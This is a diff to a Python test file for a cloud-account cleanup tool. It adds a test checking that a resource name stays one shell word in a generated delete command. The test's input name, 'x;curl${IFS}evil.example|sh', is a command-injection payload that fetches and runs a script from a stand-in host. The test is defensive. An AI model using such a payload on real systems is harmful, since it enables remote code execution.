@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Callable
 from importlib import import_module
 from pathlib import Path
 
 import pytest
 
+from account import left
 from account.asking import AccountError
 from account.command import CLOUDS, account_of
 from account.left import leftovers_of
@@ -30,3 +32,11 @@ def test_on_a_cluster_of_others_nobody_asks_for_the_rights_to_make_one(file: Pat
     opened = import_module(f"{CLOUDS}.{settings.cloud}.questions").opened
     with pytest.raises(AccountError, match="its cluster is there"):
         opened(settings)
+
+
+def test_a_command_that_removes_what_is_left_holds_its_id_as_one_word() -> None:
+    """Whoever may name things in the account chooses it."""
+    named = "x;curl${IFS}evil.example|sh"
+    (row,) = left.question("groups", "list", lambda: [left.Left(named)], "aws delete --name", region="--region r").ask()
+    command = row.remedy.partition("`")[2].rpartition("`")[0]
+    assert shlex.split(command) == ["aws", "delete", "--name", named, "--region", "r"]
